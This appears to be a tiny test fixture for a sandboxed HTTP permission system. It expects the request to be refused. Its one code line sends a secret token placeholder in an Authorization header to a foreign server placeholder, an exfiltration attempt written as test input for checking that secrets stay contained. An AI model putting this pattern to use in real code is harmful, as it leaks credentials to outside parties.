// expect: http-refused
// Sends it to another server in a header.
httpGet(claims.system.foreign + '/', [{ key: 'Authorization', value: 'Bearer %SECRET:TOKEN%' }]);
return true;
